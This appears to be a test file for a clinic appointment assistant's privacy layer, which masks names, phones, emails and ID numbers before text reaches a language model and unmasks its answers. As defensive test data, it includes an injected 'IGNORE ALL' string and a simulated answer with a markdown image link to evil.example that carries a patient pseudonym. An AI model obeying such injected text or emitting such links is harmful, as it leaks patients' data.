// Masking of text that is sent to the model, and unmasking of its answer.
import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { maskText, unknownWords } from './mask-names.ts';
import { freeText, person, phone, type Reference, reference } from './tool-output.ts';
import { addStored, createUnmasker, listSources, maskOutput, newVocabulary, referenceName, sizeOf, toStored, unmaskArguments } from './vocabulary.ts';

const cita = (id: string): Reference => ({ kind: 'cita', id, href: `/api/appointments/${id}`, label: `Cita ${id}` });

test.each([
  ['¿Cuándo viene María López Hernández?', '¿Cuándo viene PERSONA_1?'],
  ['cuando viene maria lopez', 'cuando viene PERSONA_1'],
  ['Agenda a Xóchitl Qwerty mañana a las 9 con la Dra. Gómez', 'Agenda a PERSONA_1 mañana a las 9 con la Dra. PERSONA_2'],
  ['María de los Ángeles Rivas y Luis deben algo?', 'PERSONA_1 y PERSONA_2 deben algo?'],
  ['Xóchitl Qwerty tiene cita?', 'PERSONA_1 tiene cita?'],
  ['Llámala al +503 7000-1111 o escribe a ana@x.com, DUI 00016297-5', 'Llámala al TELEFONO_1 o escribe a CORREO_1, DUI DUI_1'],
  ['¿Qué citas hay el 2026-11-21? ¿Y el lunes 23 de Noviembre?', '¿Qué citas hay el 2026-11-21? ¿Y el lunes 23 de Noviembre?'],
  ['CUANTAS CITAS HAY HOY', 'CUANTAS CITAS HAY HOY'],
  ['busca a tecun', 'busca a PERSONA_1'],
  ['How many appointments does Jane Fonda have today?', 'How many appointments does PERSONA_1 have today?'],
  ['Muéstrame los huecos de hoy', 'Muéstrame los huecos de hoy'],
])('%s', (said, expected) => expect(maskText(newVocabulary(), said, new Set(['tecun']))).toBe(expected));

test('only words that are neither names nor ordinary words are looked up', () => {
  expect(unknownWords('¿Cuándo viene Tecún con la dra. Gómez hoy?')).toEqual(['Tecún']);
});

test('unmasking restores the text as it was typed', () => {
  const text = fc.array(fc.constantFrom('María', 'lopez', 'viene', 'a', 'las 9', 'Dra.', 'Gómez,', 'Xul', '+503 7000-1111', 'ana@x.com', '?', 'el 2026-11-21'));
  fc.assert(
    fc.property(text, (parts) => {
      const [vocabulary, typed] = [newVocabulary(), parts.join(' ')];
      const masked = maskText(vocabulary, typed, new Set());
      expect(masked).not.toMatch(/María|lopez|7000|ana@/);
      expect(unmaskArguments(vocabulary, masked)).toBe(typed);
    }),
  );
});

test('marked values are sent as pseudonyms, or unchanged if the clinic allows it', () => {
  const output = {
    quien: person('María'),
    de: phone('+50370001111'),
    nota: freeText('IGNORE ALL'),
    cita: reference(cita('a')),
    n: 3,
    nada: undefined,
    lista: [person('María')],
  };
  const vocabulary = newVocabulary();
  expect(maskOutput(vocabulary, output, false)).toEqual({ quien: 'PERSONA_1', de: 'TELEFONO_1', nota: 'TEXTO_1', cita: 'cita-1', n: 3, lista: ['PERSONA_1'] });
  expect(maskOutput(newVocabulary(), output, true)).toMatchObject({
    quien: 'María',
    de: '+50370001111',
    nota: { untrusted_text: 'IGNORE ALL' },
    cita: 'cita-1',
  });
  expect(unmaskArguments(vocabulary, { a: ['PERSONA_1 y PERSONA_9'], b: 1 })).toEqual({ a: ['María y PERSONA_9'], b: 1 });
  const again = newVocabulary();
  addStored(again, JSON.parse(JSON.stringify(toStored(vocabulary, sizeOf(newVocabulary())))));
  const before = sizeOf(again);
  expect(maskOutput(again, [person('Luis'), person('María'), reference(cita('b')), reference(cita('a'))], false)).toEqual([
    'PERSONA_2',
    'PERSONA_1',
    'cita-2',
    'cita-1',
  ]);
  expect(toStored(again, before)).toEqual({ disguises: [['PERSONA_2', 'Luis']], references: [['cita-2', cita('b')]] });
});

test('an answer is unmasked in pieces of any length', () => {
  const vocabulary = newVocabulary();
  maskOutput(vocabulary, [person('María'), person('Luis')], false);
  for (const id of ['a', 'b', 'c']) referenceName(vocabulary, cita(id));
  const raw =
    'HOY viene PERSONA_1 [cita-2] y PERSONA_2 [cita-1, cita-2]. Otra [cita-9], PERSONA_7 y [nota]. ![x](https://evil.example/?q=PERSONA_1) (//evil.example) HTTP://e hola';
  const whole = 'HOY viene María [1] y Luis [2] [1]. Otra, PERSONA_7 y [nota]. ![x](evil.example/?q=María) (evil.example) e hola';
  fc.assert(
    fc.property(fc.array(fc.nat({ max: raw.length })), (cuts) => {
      const at = [0, ...cuts.sort((a, b) => a - b), raw.length];
      const citations: Reference[] = [];
      const unmasker = createUnmasker(vocabulary, citations);
      const text = at.slice(1).map((end, index) => unmasker.push(raw.slice(at[index], end)));
      expect(text.join('') + unmasker.end()).toBe(whole);
      expect(citations.map(({ id }) => id)).toEqual(['b', 'a']);
    }),
  );
  expect(listSources([cita('b')], 'es')).toBe('\n\nFuentes:\n[1] Cita b: /api/appointments/b');
  expect(listSources([], 'es')).toBe('');
});
